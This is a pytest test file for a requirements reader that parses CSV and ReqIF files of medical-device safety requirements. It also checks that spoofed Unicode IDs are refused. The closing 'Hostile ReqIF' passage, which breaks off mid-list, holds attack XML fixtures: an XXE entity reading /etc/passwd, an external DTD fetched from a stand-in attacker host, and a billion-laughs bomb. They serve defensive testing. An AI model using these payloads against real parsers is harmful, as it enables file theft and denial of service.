"""Tests of the requirement readers (CSV, ReqIF, ReqIF archives) and of requirement IDs."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Mapping, Sequence
from pathlib import Path

import pandas as pd
import pytest

from covguard.errors import ConfigError, InputError
from covguard.requirements import (
    COLUMNS,
    DEFAULT_OPTIONS,
    ReadReport,
    RequirementOptions,
    describe_char,
    read_requirements,
    validate_id,
)
from covguard.requirements import reqif as reqif_module
from covguard.requirements.ids import DEFAULT_ID_PATTERN

FIXTURES = Path(__file__).parent / "fixtures" / "requirements"
PUMP_CSV = FIXTURES / "pump.csv"
PUMP_REQIF = FIXTURES / "pump.reqif"
SAMPLE_FIRMWARE = Path(__file__).parent.parent / "sample_firmware"
PATTERN = re.compile(DEFAULT_ID_PATTERN)
HEADER = "id,title,safety_class\n"


def write(folder: Path, name: str, content: str | bytes) -> Path:
    """Write a file for one test and return its path."""
    path = folder / name
    if isinstance(content, str):
        path.write_bytes(content.encode("utf-8"))
    else:
        path.write_bytes(content)
    return path


def read_error(paths: Sequence[Path], options: RequirementOptions = DEFAULT_OPTIONS) -> InputError:
    """The InputError reading ``paths`` raises (the test fails if it returns anything)."""
    with pytest.raises(InputError) as caught:
        read_requirements(paths, options)
    return caught.value


def csv_error(tmp_path: Path, text: str | bytes, options: RequirementOptions = DEFAULT_OPTIONS) -> InputError:
    """The InputError reading one CSV file with ``text`` raises."""
    return read_error([write(tmp_path, "reqs.csv", text)], options)


def core(frame: pd.DataFrame) -> pd.DataFrame:
    """The columns that must agree between formats: id, title and safety class."""
    return frame[["id", "title", "safety_class"]].reset_index(drop=True)


# ---------------------------------------------------------------------------------------------
# A small ReqIF writer for test documents

REQIF_OPEN = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd" '
    'xmlns:xhtml="http://www.w3.org/1999/xhtml">\n'
)


def _string_value(definition: str, value: str) -> str:
    return (
        f'<ATTRIBUTE-VALUE-STRING THE-VALUE="{value}"><DEFINITION>'
        f"<ATTRIBUTE-DEFINITION-STRING-REF>{definition}</ATTRIBUTE-DEFINITION-STRING-REF>"
        "</DEFINITION></ATTRIBUTE-VALUE-STRING>\n"
    )


def _object(number: int, values: Mapping[str, str], type_ref: str) -> str:
    parts = []
    if "id" in values:
        parts.append(_string_value("_ad-id", values["id"]))
    if "name" in values:
        parts.append(_string_value("_ad-name", values["name"]))
    if "chapter" in values:
        parts.append(_string_value("_ad-chapter", values["chapter"]))
    if "text" in values:
        parts.append(
            "<ATTRIBUTE-VALUE-XHTML><DEFINITION><ATTRIBUTE-DEFINITION-XHTML-REF>_ad-text"
            "</ATTRIBUTE-DEFINITION-XHTML-REF></DEFINITION>"
            f"<THE-VALUE>{values['text']}</THE-VALUE></ATTRIBUTE-VALUE-XHTML>\n"
        )
    if "class" in values:
        parts.append(
            "<ATTRIBUTE-VALUE-ENUMERATION><DEFINITION><ATTRIBUTE-DEFINITION-ENUMERATION-REF>_ad-class"
            "</ATTRIBUTE-DEFINITION-ENUMERATION-REF></DEFINITION>"
            f"<VALUES><ENUM-VALUE-REF>_ev-{values['class']}</ENUM-VALUE-REF></VALUES>"
            "</ATTRIBUTE-VALUE-ENUMERATION>\n"
        )
    return (
        f'<SPEC-OBJECT IDENTIFIER="_so-{number}">\n'
        f"<TYPE><SPEC-OBJECT-TYPE-REF>{type_ref}</SPEC-OBJECT-TYPE-REF></TYPE>\n"
        f"<VALUES>\n{''.join(parts)}</VALUES>\n</SPEC-OBJECT>\n"
    )


def reqif_text(
    objects: Sequence[Mapping[str, str]],
    *,
    class_attribute: str = "SafetyClass",
    heading_objects: Sequence[str] = (),
    enum_values: str = "",
) -> str:
    """A ReqIF 1.2 document with one requirement type and the given objects.

    Each object maps ``id``, ``name``, ``text`` (XHTML markup), ``class`` (A, B, C) and
    ``chapter`` to values; keys left out give no value.  ``heading_objects`` are chapter names of
    objects of a separate heading type, which has no ID attribute.
    """
    enum_values = enum_values or "".join(
        f'<ENUM-VALUE IDENTIFIER="_ev-{c}" LONG-NAME="{c}"/>' for c in ("A", "B", "C")
    )
    definitions = (
        '<ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_ad-id" LONG-NAME="ReqIF.ForeignID"/>\n'
        '<ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_ad-name" LONG-NAME="ReqIF.Name"/>\n'
        '<ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_ad-chapter" LONG-NAME="ReqIF.ChapterName"/>\n'
        '<ATTRIBUTE-DEFINITION-XHTML IDENTIFIER="_ad-text" LONG-NAME="ReqIF.Text"/>\n'
        f'<ATTRIBUTE-DEFINITION-ENUMERATION IDENTIFIER="_ad-class" LONG-NAME="{class_attribute}"/>\n'
    )
    heading_type = (
        '<SPEC-OBJECT-TYPE IDENTIFIER="_sot-heading"><SPEC-ATTRIBUTES>'
        '<ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_ad-heading" LONG-NAME="ReqIF.ChapterName"/>'
        "</SPEC-ATTRIBUTES></SPEC-OBJECT-TYPE>\n"
    )
    headings = "".join(
        f'<SPEC-OBJECT IDENTIFIER="_so-h{n}"><TYPE><SPEC-OBJECT-TYPE-REF>_sot-heading</SPEC-OBJECT-TYPE-REF>'
        f"</TYPE><VALUES>{_string_value('_ad-heading', name)}</VALUES></SPEC-OBJECT>\n"
        for n, name in enumerate(heading_objects)
    )
    body = "".join(_object(n, values, "_sot-req") for n, values in enumerate(objects))
    return (
        REQIF_OPEN + "<CORE-CONTENT><REQ-IF-CONTENT>\n"
        '<DATATYPES><DATATYPE-DEFINITION-ENUMERATION IDENTIFIER="_dt-class">'
        f"<SPECIFIED-VALUES>{enum_values}</SPECIFIED-VALUES>"
        "</DATATYPE-DEFINITION-ENUMERATION></DATATYPES>\n"
        f'<SPEC-TYPES>\n<SPEC-OBJECT-TYPE IDENTIFIER="_sot-req"><SPEC-ATTRIBUTES>\n{definitions}'
        f"</SPEC-ATTRIBUTES></SPEC-OBJECT-TYPE>\n{heading_type}</SPEC-TYPES>\n"
        f"<SPEC-OBJECTS>\n{headings}{body}</SPEC-OBJECTS>\n"
        "</REQ-IF-CONTENT></CORE-CONTENT>\n</REQ-IF>\n"
    )


def reqif_error(
    tmp_path: Path, text: str | bytes, options: RequirementOptions = DEFAULT_OPTIONS
) -> InputError:
    """The InputError reading one ReqIF file with ``text`` raises."""
    return read_error([write(tmp_path, "reqs.reqif", text)], options)


def make_zip(path: Path, members: Mapping[str, bytes]) -> Path:
    """Write a deflated zip archive with the given members."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


# ---------------------------------------------------------------------------------------------
# The frame


def test_normal_csv_gives_the_column_contract() -> None:
    frame = read_requirements([PUMP_CSV])
    assert tuple(frame.columns) == COLUMNS
    assert {name: str(dtype) for name, dtype in frame.dtypes.items()} == {
        "id": "object",
        "title": "object",
        "safety_class": "object",
        "source": "object",
        "line": "int64",
        "attributes": "object",
        "parent": "object",
    }
    assert frame["parent"].tolist() == [None] * 4
    assert frame["id"].tolist() == ["PUMP-SRS-001", "PUMP-SRS-002", "PUMP-SRS-003", "PUMP-SRS-004"]
    assert frame["safety_class"].tolist() == ["C", "C", "B", "A"]
    assert frame["title"].iloc[1] == "Raise the occlusion alarm within 2 s"
    assert frame["source"].tolist() == [str(PUMP_CSV)] * 4
    assert frame["line"].tolist() == [2, 3, 4, 7]  # PUMP-SRS-003's rationale spans two lines
    assert frame["attributes"].iloc[2] == {
        "rationale": "Dose history is needed for clinical review\nand for complaint investigation.",
        "owner": "NA",
    }
    assert frame["attributes"].iloc[3]["owner"] == "0012"
    assert list(frame.index) == [0, 1, 2, 3]


def test_several_files_are_concatenated_in_order(tmp_path: Path) -> None:
    other = write(tmp_path, "other.csv", HEADER + "PUMP-SRS-100,Other,a\n")
    frame = read_requirements([other, PUMP_REQIF])
    assert frame["id"].tolist()[:2] == ["PUMP-SRS-100", "PUMP-SRS-001"]
    assert frame["source"].tolist() == [str(other)] + [str(PUMP_REQIF)] * 4


def test_duplicate_ids_across_files_cite_both_files(tmp_path: Path) -> None:
    error = read_error([PUMP_CSV, PUMP_REQIF])
    assert error.message == f"duplicate requirement ID 'PUMP-SRS-001' (also in {PUMP_CSV}, line 2)"
    assert error.location is not None
    assert error.location.path == str(PUMP_REQIF)
    assert error.location.line == 82


def test_a_file_listed_twice_is_refused() -> None:
    error = read_error([PUMP_CSV, PUMP_REQIF, PUMP_CSV.parent / ".." / "requirements" / "pump.csv"])
    assert error.message.startswith(
        f"requirement file '{PUMP_CSV.parent}/../requirements/pump.csv' is listed twice"
    )


def test_csv_and_reqif_with_the_same_content_agree() -> None:
    from_csv = read_requirements([PUMP_CSV])
    from_reqif = read_requirements([PUMP_REQIF])
    pd.testing.assert_frame_equal(core(from_csv), core(from_reqif))


def test_unsupported_suffix_is_refused(tmp_path: Path) -> None:
    error = read_error([write(tmp_path, "reqs.docx", b"PK")])
    assert "unsupported requirement file type '.docx'" in error.message
    assert error.hint is not None
    assert ".reqifz" in error.hint


def test_no_paths_is_refused() -> None:
    with pytest.raises(InputError, match="no requirement files"):
        read_requirements([])


def test_missing_file_is_an_input_error(tmp_path: Path) -> None:
    error = read_error([tmp_path / "absent.csv"])
    assert "cannot read requirement file" in error.message


def test_folder_is_an_input_error(tmp_path: Path) -> None:
    folder = tmp_path / "reqs.csv"
    folder.mkdir()
    assert "cannot read requirement file" in read_error([folder]).message


# ---------------------------------------------------------------------------------------------
# Requirement IDs


@pytest.mark.parametrize(
    ("raw", "expected"),
    [("PUMP-SRS-004", "PUMP-SRS-004"), ("  SRS-1\t", "SRS-1"), ("\u00a0SRS-1\u3000", "SRS-1")],
)
def test_validate_id_strips_ascii_and_unicode_spaces(raw: str, expected: str) -> None:
    assert validate_id(raw, PATTERN, path="x.csv", line=3) == expected


@pytest.mark.parametrize(
    ("raw", "named"),
    [
        ("PUMP-S\u0420S-004", "U+0420 CYRILLIC CAPITAL LETTER ER, at character 7"),
        ("PUMP-SRS-\u202e400", "U+202E RIGHT-TO-LEFT OVERRIDE, at character 10"),
        ("PUMP-SRS\u200b-004", "U+200B ZERO WIDTH SPACE, at character 9"),
        ("PUMP-SRS-00\uff14", "U+FF14 FULLWIDTH DIGIT FOUR, at character 12"),
        ("PUMP-SRS-004\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE, at character 13"),
        ("\ufeffPUMP-SRS-004", "U+FEFF ZERO WIDTH NO-BREAK SPACE, at character 1"),
        ("PUMP-SRS-0\x0004", "U+0000 <control>, at character 11"),
    ],
)
def test_validate_id_names_suspicious_characters(raw: str, named: str) -> None:
    with pytest.raises(InputError) as caught:
        validate_id(raw, PATTERN, path="x.csv", line=3)
    assert named in caught.value.message
    assert caught.value.location is not None
    assert caught.value.location.line == 3


def test_validate_id_explains_look_alikes_and_controls() -> None:
    with pytest.raises(InputError, match="non-ASCII look-alike of 'P'"):
        validate_id("\u0420UMP-1", PATTERN, path="x", line=1)
    with pytest.raises(InputError, match="non-ASCII look-alike of '4'"):
        validate_id("PUMP-\uff14", PATTERN, path="x", line=1)
    with pytest.raises(InputError, match="bidirectional control"):
        validate_id("PUMP-\u061c1", PATTERN, path="x", line=1)
    with pytest.raises(InputError, match="invisible character"):
        validate_id("PUMP-\u200d1", PATTERN, path="x", line=1)
    with pytest.raises(InputError, match=r"a non-ASCII character, U\+00C9 LATIN CAPITAL LETTER E WITH ACUTE"):
        validate_id("PUMP-\u00c9-1", PATTERN, path="x", line=1)


def test_validate_id_refuses_empty_and_non_matching_ids() -> None:
    with pytest.raises(InputError, match="empty requirement ID"):
        validate_id(" \u2003 ", PATTERN, path="x", line=1)
    with pytest.raises(InputError, match=r"requirement ID 'pump-srs-4' does not match the ID pattern"):
        validate_id("pump-srs-4", PATTERN, path="x", line=1)
    with pytest.raises(InputError, match="does not match"):
        validate_id("PUMP SRS-4", PATTERN, path="x", line=1)


def test_describe_char() -> None:
    assert describe_char("\u0420") == "U+0420 CYRILLIC CAPITAL LETTER ER"
    assert describe_char("A") == "U+0041 LATIN CAPITAL LETTER A"
    assert describe_char("\x07") == "U+0007 <control>"
    assert describe_char("\U0001f600") == "U+1F600 GRINNING FACE"


def test_broken_id_pattern_is_a_configuration_error() -> None:
    with pytest.raises(ConfigError, match="not a valid regular expression"):
        read_requirements([PUMP_CSV], RequirementOptions(id_pattern="[A-Z"))


# ---------------------------------------------------------------------------------------------
# CSV


def test_numeric_looking_cells_stay_text(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "reqs.csv",
        "ID, Title ,SAFETY_CLASS,owner,note,empty\n0012,0012,b,NA,N/A,\n0013,1e3,B,null,nan,\n",
    )
    frame = read_requirements([path], RequirementOptions(id_pattern=r"[0-9]+"))
    assert frame["id"].tolist() == ["0012", "0013"]
    assert frame["title"].tolist() == ["0012", "1e3"]
    assert frame["attributes"].tolist() == [
        {"owner": "NA", "note": "N/A", "empty": ""},
        {"owner": "null", "note": "nan", "empty": ""},
    ]


@pytest.mark.parametrize("second", ["PUMP-SRS-001", "  PUMP-SRS-001 ", "\tPUMP-SRS-001"])
def test_duplicate_id_cites_both_lines(tmp_path: Path, second: str) -> None:
    error = csv_error(tmp_path, HEADER + f"PUMP-SRS-001,One,A\nPUMP-SRS-002,Two,B\n\n{second},Three,C\n")
    assert error.message == "duplicate requirement ID 'PUMP-SRS-001' (also on line 2)"
    assert error.location is not None
    assert error.location.line == 5


def test_duplicate_header_names_both_columns(tmp_path: Path) -> None:
    error = csv_error(tmp_path, "id,title,safety_class, ID \nA-1,t,A,A-2\n")
    assert error.message == "duplicate column 'ID' in the header (columns 1 and 4)"
    assert error.location is not None
    assert error.location.line == 1


def test_missing_columns_are_listed_with_what_was_found(tmp_path: Path) -> None:
    error = csv_error(tmp_path, "ID,name,class\nA-1,t,A\n")
    assert error.message == (
        "missing required column(s) 'title', 'safety_class'; the header has 'ID', 'name', 'class'"
    )


def test_semicolon_separated_file_gets_a_hint(tmp_path: Path) -> None:
    error = csv_error(tmp_path, "id;title;safety_class\nA-1;t;A\n")
    assert error.hint is not None
    assert "';'" in error.hint


def test_unnamed_header_column_is_refused(tmp_path: Path) -> None:
    error = csv_error(tmp_path, "id,title,safety_class,\nA-1,t,A,\n")
    assert error.message == "header column 4 has no name"


@pytest.mark.parametrize("value", ["D", "", "Class D", "AB", "1"])
def test_bad_safety_class_names_value_line_and_allowed_values(tmp_path: Path, value: str) -> None:
    error = csv_error(tmp_path, HEADER + f"A-1,One,A\nA-2,Two,{value}\n")
    assert error.message == f"requirement 'A-2' has safety class {value!r}; allowed values are A, B, C"
    assert error.location is not None
    assert error.location.line == 3


def test_safety_class_in_iec_62304_words_and_mapped_values(tmp_path: Path) -> None:
    text = HEADER + "A-1,One,Class B\nA-2,Two, class  c\nA-3,Three,SIL3\nA-4,Four,\n"
    options = RequirementOptions(class_map=(("sil3", "C"),), default_class="A")
    frame = read_requirements([write(tmp_path, "r.csv", text)], options)
    assert frame["safety_class"].tolist() == ["B", "C", "C", "A"]


def test_safety_class_is_normalised_to_upper_case(tmp_path: Path) -> None:
    frame = read_requirements([write(tmp_path, "r.csv", HEADER + "A-1,One, c \nA-2,Two,b\n")])
    assert frame["safety_class"].tolist() == ["C", "B"]


def test_empty_title_is_refused(tmp_path: Path) -> None:
    error = csv_error(tmp_path, HEADER + "A-1,  ,A\n")
    assert error.message == "requirement 'A-1' has an empty title"


def test_title_is_stripped_but_kept_otherwise(tmp_path: Path) -> None:
    frame = read_requirements([write(tmp_path, "r.csv", HEADER + 'A-1,"  Two  spaces, a comma ",A\n')])
    assert frame["title"].tolist() == ["Two  spaces, a comma"]


@pytest.mark.parametrize(
    ("bad_id", "named"),
    [
        ("PUMP-S\u0420S-004", "U+0420 CYRILLIC CAPITAL LETTER ER"),
        ("PUMP-SRS-00\u202e4", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("PUMP\u200b-SRS-004", "U+200B ZERO WIDTH SPACE"),
    ],
)
def test_suspicious_characters_in_csv_ids_are_refused(tmp_path: Path, bad_id: str, named: str) -> None:
    error = csv_error(tmp_path, HEADER + f"PUMP-SRS-001,One,A\n{bad_id},Two,B\n")
    assert named in error.message
    assert error.location is not None
    assert error.location.line == 3


def test_multi_line_cells_keep_physical_line_numbers(tmp_path: Path) -> None:
    text = HEADER + 'A-1,"first\nsecond\r\nthird",A\r\n\r\nA-2,"x\ry",B\nA-3,plain,C\n'
    frame = read_requirements([write(tmp_path, "r.csv", text)])
    assert frame["line"].tolist() == [2, 6, 8]
    assert frame["title"].iloc[0] == "first\nsecond\r\nthird"
    error = csv_error(tmp_path, text + 'A-4,"a\nb",A\nA-1,again,A\n')
    assert error.message == "duplicate requirement ID 'A-1' (also on line 2)"
    assert error.location is not None
    assert error.location.line == 11


def test_byte_order_mark_is_removed(tmp_path: Path) -> None:
    frame = read_requirements([write(tmp_path, "r.csv", b"\xef\xbb\xbf" + HEADER.encode() + b"A-1,One,A\n")])
    assert frame["id"].tolist() == ["A-1"]


def test_invalid_utf8_names_the_line(tmp_path: Path) -> None:
    data = HEADER.encode() + b"A-1,One,A\nA-2,caf\xe9,B\n"
    error = csv_error(tmp_path, data)
    assert error.message.startswith("the file is not valid UTF-8: byte 0xE9")
    assert error.location is not None
    assert error.location.line == 3


def test_wrong_cell_count_names_the_line(tmp_path: Path) -> None:
    error = csv_error(tmp_path, HEADER + "A-1,One,A\nA-2,Two,B,extra\n")
    assert error.message == "row has 4 cells but the header has 3 columns"
    assert error.location is not None
    assert error.location.line == 3
    error = csv_error(tmp_path, HEADER + "A-1,One\n")
    assert error.message == "row has 2 cells but the header has 3 columns"


def test_blank_lines_and_blank_rows_are_skipped(tmp_path: Path) -> None:
    frame = read_requirements([write(tmp_path, "r.csv", "\n" + HEADER + "\n,,\nA-1,One,A\n \n")])
    assert frame["line"].tolist() == [5]


@pytest.mark.parametrize("text", [HEADER, HEADER + "\n,,\n", "", "\n\n"])
def test_no_requirement_rows_is_an_error(tmp_path: Path, text: str) -> None:
    assert csv_error(tmp_path, text).message.startswith("no requirements")


def test_malformed_quoting_is_an_input_error(tmp_path: Path) -> None:
    error = csv_error(tmp_path, HEADER + 'A-1,"unterminated,A\n')
    assert error.message.startswith("malformed CSV")
    error = csv_error(tmp_path, HEADER + 'A-1,"quoted"junk,A\n')
    assert error.message.startswith("malformed CSV")
    assert error.location is not None
    assert error.location.line == 2


def test_csv_over_the_size_cap_is_refused(tmp_path: Path) -> None:
    error = csv_error(tmp_path, HEADER + "A-1,One,A\n" * 10, RequirementOptions(max_bytes=64))
    assert "more than the limit of 64 bytes" in error.message


# ---------------------------------------------------------------------------------------------
# ReqIF


def test_reqif_with_string_xhtml_enumeration_and_other_attributes() -> None:
    frame = read_requirements([PUMP_REQIF])
    assert tuple(frame.columns) == COLUMNS
    assert frame["id"].tolist() == ["PUMP-SRS-001", "PUMP-SRS-002", "PUMP-SRS-003", "PUMP-SRS-004"]
    assert frame["safety_class"].tolist() == ["C", "C", "B", "A"]
    assert frame["line"].tolist() == [82, 108, 135, 154]  # the SPEC-OBJECT start tags
    assert frame["attributes"].iloc[0] == {
        "ReqIF.Text": "The patient receives no drug while the line is occluded.",
        "Priority": "1",
        "Reviewed": "true",
    }
    # Separate XHTML paragraphs stay separate words; the definition's default fills Priority.
    assert frame["attributes"].iloc[2] == {
        "ReqIF.Text": "Dose history is needed for clinical review and for complaint investigation.",
        "Priority": "3",
    }


def test_reqif_title_falls_back_to_text(tmp_path: Path) -> None:
    text = reqif_text(
        [
            {
                "id": "A-1",
                "text": "<xhtml:div>  Only\n  <xhtml:i>formatted</xhtml:i>text </xhtml:div>",
                "class": "A",
            },
            {
                "id": "A-2",
                "name": "  ",
                "text": "<xhtml:p>a</xhtml:p><xhtml:p>b<xhtml:br/>c</xhtml:p>",
                "class": "B",
            },
        ]
    )
    frame = read_requirements([write(tmp_path, "r.reqif", text)])
    assert frame["title"].tolist() == ["Only formattedtext", "a b c"]
    assert frame["attributes"].iloc[1] == {"ReqIF.Name": "  "}


def test_reqif_title_attributes_are_configurable(tmp_path: Path) -> None:
    text = reqif_text([{"id": "A-1", "name": "Name", "text": "<xhtml:div>Text</xhtml:div>", "class": "A"}])
    options = RequirementOptions(reqif_title_attributes=("ReqIF.Text", "ReqIF.Name"))
    frame = read_requirements([write(tmp_path, "r.reqif", text)], options)
    assert frame["title"].tolist() == ["Text"]
    assert frame["attributes"].iloc[0] == {"ReqIF.Name": "Name"}


def test_reqif_without_any_title_is_refused(tmp_path: Path) -> None:
    error = reqif_error(tmp_path, reqif_text([{"id": "A-1", "class": "A"}]))
    assert error.message == (
        "requirement 'A-1' (SPEC-OBJECT '_so-0') has no title: none of 'ReqIF.Name', 'ReqIF.Text' has a value"
    )


def test_enumeration_value_without_long_name_uses_its_key(tmp_path: Path) -> None:
    enum_values = (
        '<ENUM-VALUE IDENTIFIER="_ev-A"><PROPERTIES><EMBEDDED-VALUE KEY="a" OTHER-CONTENT=""/>'
        '</PROPERTIES></ENUM-VALUE><ENUM-VALUE IDENTIFIER="_ev-B" LONG-NAME="B"/>'
    )
    text = reqif_text([{"id": "A-1", "name": "One", "class": "A"}], enum_values=enum_values)
    frame = read_requirements([write(tmp_path, "r.reqif", text)])
    assert frame["safety_class"].tolist() == ["A"]


def test_headings_are_skipped(tmp_path: Path) -> None:
    text = reqif_text(
        [{"chapter": "Alarms"}, {"id": "A-1", "name": "One", "class": "C"}], heading_objects=["Intro"]
    )
    frame = read_requirements([write(tmp_path, "r.reqif", text)])
    assert frame["id"].tolist() == ["A-1"]


def test_requirement_without_id_value_is_refused(tmp_path: Path) -> None:
    error = reqif_error(tmp_path, reqif_text([{"id": "A-1", "name": "One", "class": "A"}, {"name": "Two"}]))
    assert error.message == (
        "SPEC-OBJECT '_so-1' (type '_sot-req') has no value for the ID attribute 'ReqIF.ForeignID'"
    )
    assert error.location is not None
    assert error.location.line is not None


def test_reqif_id_attribute_is_configurable_and_a_wrong_one_is_explained(tmp_path: Path) -> None:
    text = reqif_text([{"id": "A-1", "name": "One", "text": "<xhtml:div>Title</xhtml:div>", "class": "A"}])
    path = write(tmp_path, "r.reqif", text)
    options = RequirementOptions(reqif_id_attribute="ReqIF.Name", id_pattern=r"\w+")
    frame = read_requirements([path], options)
    assert frame["id"].tolist() == ["One"]
    assert frame["title"].tolist() == ["Title"]
    assert frame["attributes"].iloc[0] == {"ReqIF.ForeignID": "A-1"}
    error = read_error([path], RequirementOptions(reqif_id_attribute="Absolute Number"))
    assert error.message == (
        "no requirements: not taken as requirements: 1 "
        "(1 type '_sot-req' without ID attribute 'Absolute Number')"
    )
    assert error.hint is not None
    assert "'ReqIF.ForeignID'" in error.hint


def test_reqif_class_attribute_is_matched_exactly_with_a_hint(tmp_path: Path) -> None:
    text = reqif_text([{"id": "A-1", "name": "One", "class": "B"}], class_attribute="IEC62304.SafetyClass")
    path = write(tmp_path, "r.reqif", text)
    error = read_error([path])
    assert error.message == "safety class attribute 'SafetyClass' is not defined for this SPEC-OBJECT"
    assert error.hint is not None
    assert "'IEC62304.SafetyClass'" in error.hint
    frame = read_requirements([path], RequirementOptions(reqif_class_attribute="IEC62304.SafetyClass"))
    assert frame["safety_class"].tolist() == ["B"]


def test_reqif_empty_safety_class_is_refused(tmp_path: Path) -> None:
    error = reqif_error(tmp_path, reqif_text([{"id": "A-1", "name": "One"}]))
    assert error.message == "requirement 'A-1' has safety class ''; allowed values are A, B, C"


def test_reqif_duplicate_id_cites_both_lines(tmp_path: Path) -> None:
    text = reqif_text(
        [{"id": "A-1", "name": "One", "class": "A"}, {"id": " A-1", "name": "Two", "class": "A"}]
    )
    error = reqif_error(tmp_path, text)
    first_line = text.splitlines().index('<SPEC-OBJECT IDENTIFIER="_so-0">') + 1
    second_line = text.splitlines().index('<SPEC-OBJECT IDENTIFIER="_so-1">') + 1
    assert error.message == f"duplicate requirement ID 'A-1' (also on line {first_line})"
    assert error.location is not None
    assert error.location.line == second_line


def test_reqif_look_alike_id_is_refused(tmp_path: Path) -> None:
    error = reqif_error(tmp_path, reqif_text([{"id": "\u0410-1", "name": "One", "class": "A"}]))
    assert "U+0410 CYRILLIC CAPITAL LETTER A" in error.message


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (
            "<ATTRIBUTE-DEFINITION-STRING-REF>_ad-name<",
            "<ATTRIBUTE-DEFINITION-STRING-REF>_ad-nope<",
            "_ad-nope",
        ),
        ("<ENUM-VALUE-REF>_ev-A<", "<ENUM-VALUE-REF>_ev-Z<", "unknown ENUM-VALUE '_ev-Z'"),
        ("<SPEC-OBJECT-TYPE-REF>_sot-req<", "<SPEC-OBJECT-TYPE-REF>_sot-x<", "unknown SPEC-OBJECT-TYPE"),
        ('<SPEC-OBJECT IDENTIFIER="_so-0">', "<SPEC-OBJECT>", "<SPEC-OBJECT> has no IDENTIFIER"),
        ("<ATTRIBUTE-VALUE-STRING THE-VALUE=", "<ATTRIBUTE-VALUE-STRING VALUE=", "has no THE-VALUE"),
        (
            "ATTRIBUTE-VALUE-STRING",
            "ATTRIBUTE-VALUE-TEXT",
            "unknown attribute value <ATTRIBUTE-VALUE-TEXT>",
        ),
        ('"_ad-chapter" LONG-NAME="ReqIF.ChapterName"', '"_ad-id" LONG-NAME="X"', "defined twice"),
        (
            'ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_ad-chapter"',
            'ATTRIBUTE-DEFINITION-FOO IDENTIFIER="_ad-c"',
            "unknown attribute definition <ATTRIBUTE-DEFINITION-FOO>",
        ),
        (
            "<ATTRIBUTE-DEFINITION-STRING-REF>_ad-name<",
            "<ATTRIBUTE-DEFINITION-STRING-REF>_ad-id<",
            "attribute 'ReqIF.ForeignID' has two values in one SPEC-OBJECT",
        ),
    ],
)
def test_inconsistent_reqif_is_refused(tmp_path: Path, old: str, new: str, message: str) -> None:
    text = reqif_text([{"id": "A-1", "name": "One", "class": "A"}])
    assert old in text
    error = reqif_error(tmp_path, text.replace(old, new, 2))  # an element's start and end tag
    assert message in error.message


def test_kind_mismatch_between_value_and_definition_is_read_with_a_warning(tmp_path: Path) -> None:
    # Polarion writes ATTRIBUTE-VALUE-STRING for its XHTML ReqIF.Text definition
    text = reqif_text([{"id": "A-1", "name": "One", "class": "A"}]).replace(
        "<ATTRIBUTE-DEFINITION-STRING-REF>_ad-name<", "<ATTRIBUTE-DEFINITION-STRING-REF>_ad-text<"
    )
    report = ReadReport()
    frame = read_requirements([write(tmp_path, "r.reqif", text)], report=report)
    assert frame["title"].tolist() == ["One"]
    assert len(report.warnings) == 1
    assert (
        "a STRING value refers to the XHTML attribute definition 'ReqIF.Text' (read as written)"
        in (report.warnings[0])
    )


def test_dangling_specification_reference_is_a_warning(tmp_path: Path) -> None:
    text = reqif_text([{"id": "A-1", "name": "One", "class": "A"}]).replace(
        "</SPEC-OBJECTS>",
        "</SPEC-OBJECTS><SPECIFICATIONS><SPECIFICATION IDENTIFIER='_s'><CHILDREN>"
        "<SPEC-HIERARCHY IDENTIFIER='_h'><OBJECT><SPEC-OBJECT-REF>_so-9</SPEC-OBJECT-REF></OBJECT>"
        "</SPEC-HIERARCHY></CHILDREN></SPECIFICATION></SPECIFICATIONS>",
    )
    report = ReadReport()
    frame = read_requirements([write(tmp_path, "r.reqif", text)], report=report)
    assert frame["id"].tolist() == ["A-1"]
    assert len(report.warnings) == 1
    assert "the specification refers to unknown SPEC-OBJECT '_so-9' (ignored)" in report.warnings[0]


def test_not_a_reqif_document(tmp_path: Path) -> None:
    error = reqif_error(tmp_path, "<?xml version='1.0'?><root/>")
    assert error.message == "not a ReqIF document: the root element is <root>"
    error = reqif_error(tmp_path, REQIF_OPEN + "</REQ-IF>")
    assert "no CORE-CONTENT/REQ-IF-CONTENT" in error.message


def test_malformed_xml_names_the_parser_line(tmp_path: Path) -> None:
    text = reqif_text([{"id": "A-1", "name": "One", "class": "A"}]).replace(
        "</SPEC-OBJECTS>", "</SPEC-OBJECT>"
    )
    error = reqif_error(tmp_path, text)
    assert error.message.startswith("malformed XML")
    lines = text.splitlines()
    assert error.location is not None
    assert error.location.line == len(lines) - lines[::-1].index("</SPEC-OBJECT>")


@pytest.mark.parametrize("content", [b"", b"   ", b"\xef\xbb\xbf", b"not xml at all"])
def test_empty_or_garbage_reqif_is_an_input_error(tmp_path: Path, content: bytes) -> None:
    reqif_error(tmp_path, content)


# ---------------------------------------------------------------------------------------------
# Hostile ReqIF


XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE REQ-IF [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"><THE-HEADER>&secret;</THE-HEADER></REQ-IF>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE REQ-IF [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
]>
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"/>
"""

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">\n' for n in range(2, 10)).replace(
        "&lol1;", "&lol;"
    )
    + ']>\n<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd">&lol9;</REQ-IF>\n'
)


@pytest.mark.parametrize(
    "document",
    [
        XXE,
        PARAMETER_ENTITY,
        BILLION_LAUGHS,
